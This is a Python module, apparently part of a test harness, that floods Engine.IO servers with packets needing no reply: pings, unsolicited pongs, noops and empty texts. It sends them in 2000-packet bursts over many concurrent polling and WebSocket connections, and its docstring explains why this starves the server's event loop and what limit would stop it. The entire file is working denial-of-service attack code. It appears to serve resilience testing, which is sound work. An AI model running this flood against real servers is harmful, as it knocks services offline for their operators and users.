"""Engine.IO packets without a message, as many as fit.

Does: floods with pings, unsolicited pongs, noops and empty texts, before and after CONNECT.
Breaks: no limit counts packets that need no answer, and millions of them a second leave the loop no time for others.
Limit: pings and malformed packets end the session; messages of a connection and of an address.
"""

import asyncio

from lines import frame, guest, web_socket

PROOF = "noops"

FLOODS = {
    "pings": frame(b"2") * 2000,
    "pongs": frame(b"3") * 2000,
    "noops": frame(b"6") * 2000,
    "empty texts": frame(b"") * 2000,
}


async def attack(target):
    await asyncio.gather(*(target.crowd(6, flood, what, enter) for what in FLOODS for enter in (guest, web_socket)))


async def flood(target, what, enter):
    async with await enter(target) as line:
        while target.is_on():
            await line.send(FLOODS[what])
            target.tally(what, 2000)
            line.discard()
            await asyncio.sleep(0)
